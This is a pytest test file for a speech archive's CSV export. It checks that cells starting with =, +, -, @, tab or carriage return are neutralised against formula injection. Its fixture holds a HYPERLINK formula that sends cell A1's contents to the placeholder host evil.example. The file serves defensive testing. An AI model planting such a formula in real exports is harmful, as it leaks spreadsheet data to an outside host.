"""CSV formula injection (OWASP): no CSV the archive writes makes a spreadsheet run a formula."""

from __future__ import annotations

import csv
import io

import pytest

from archive.exports import spreadsheet_safe
from archive.models import Speech
from tests.pages_data import build_archive

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click for the full record")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1 (212) 963-1234", "'+1 (212) 963-1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tindented", "'\tindented"),
        ("\rcarriage", "'\rcarriage"),
        ("Mr. Nebenzia: =2+2 inside is harmless", "Mr. Nebenzia: =2+2 inside is harmless"),
        ("", ""),
        ("'already quoted", "'already quoted"),
        (-5, -5),  # numbers are numbers
        (None, None),
    ],
)
def test_spreadsheet_safe(cell, written):
    assert spreadsheet_safe(cell) == written


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def evil_speech(db):
    build_archive()
    speech = Speech.objects.filter(member_state__iso3="CHN").first()
    speech.text = EVIL + "\n\nThe rest of the statement, kept intact."
    speech.speaker_name = "@attacker"
    speech.save()
    return speech


def _row_of(rows: list[list[str]], column: str, speech: Speech) -> dict[str, str]:
    header = rows[0]
    for row in rows[1:]:
        record = dict(zip(header, row, strict=True))
        if record.get(column) == str(speech.pk) or speech.get_absolute_url() in record.get(
            "url", ""
        ):
            return record
    raise AssertionError(f"speech {speech.pk} not in the CSV")


@pytest.mark.django_db
def test_search_csv_neutralises_a_formula_in_a_speech(client, evil_speech):
    response = client.get("/search.csv", {"q": "HYPERLINK"})
    assert response.status_code == 200
    record = _row_of(_csv(response), "id", evil_speech)
    assert record["text"] == "'" + evil_speech.text  # one apostrophe, the text intact
    assert record["speaker"] == "'@attacker"


@pytest.mark.django_db
def test_every_statement_csv_neutralises_formulas(client, evil_speech):
    url = evil_speech.member_state.get_absolute_url() + "statements/?format=csv"
    record = _row_of(_csv(client.get(url)), "id", evil_speech)
    assert record["text"].startswith("'=HYPERLINK(")
    assert record["speaker"] == "'@attacker"


@pytest.mark.django_db
def test_json_keeps_the_text_as_it_is(client, evil_speech):
    response = client.get("/search.json", {"q": "HYPERLINK"})
    body = b"".join(response.streaming_content).decode()
    assert '"=HYPERLINK(' in body
